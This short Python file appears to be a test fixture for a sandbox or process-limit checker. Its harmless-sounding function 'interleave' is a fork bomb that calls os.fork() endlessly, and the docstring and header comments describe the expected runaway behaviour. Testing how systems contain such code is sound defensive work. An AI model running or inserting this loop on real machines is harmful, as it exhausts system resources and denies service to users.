"""Forks without end, each child as well."""

# stops = full
# seconds = 2

import os


def interleave(a, b):
    while True:
        try:
            os.fork()
        except OSError:
            continue
